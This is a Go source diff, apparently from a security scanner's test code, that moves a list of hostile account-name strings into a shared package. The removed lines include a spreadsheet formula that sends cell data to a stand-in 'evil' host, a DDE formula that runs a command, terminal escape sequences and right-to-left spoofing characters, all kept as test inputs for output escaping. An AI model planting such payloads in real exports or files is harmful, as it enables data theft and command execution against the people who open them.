@@ -7,6 +7,7 @@ import (
 	"unicode"
 	"unicode/utf8"
 
+	"github.com/orgscan/orgscan/internal/hostiletext"
 	"github.com/orgscan/orgscan/pkg/checks"
 	"github.com/orgscan/orgscan/pkg/finding"
 	"github.com/orgscan/orgscan/pkg/pipeline"
@@ -15,22 +16,7 @@ import (
 // memberText is what a member account can name an account, tag a resource
 // or call a security group: spreadsheet formulas, terminal escapes, line
 // breaks, a right-to-left override, invisible characters, invalid UTF-8.
-var memberText = []string{
-	`=HYPERLINK("http://evil/?d="&A1,"open")`,
-	`+cmd|' /C calc'!A0`,
-	`-2+3`,
-	`@SUM(1)`,
-	"\tTAB",
-	"\rCR",
-	"\x1b[2J\x1b[H fake row",
-	"a\nb\nc",
-	"\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
-	"\u202eevil.exe",
-	"\u2066gpj.\u2069exe \u202a\u202b\u202c\u202d\u2067\u2068\u200e\u200f\u061c",
-	"zero\u200bwidth\u200c\u200d\ufeff\u2028\u2029",
-	"\u0085\u009b31m",
-	"\xff\xfe",
-}
+var memberText = hostiletext.Strings
 
 // memberFixture puts memberText in every account name, account ID,
 // resource ID, reason, tag, error message and run ID of a report.
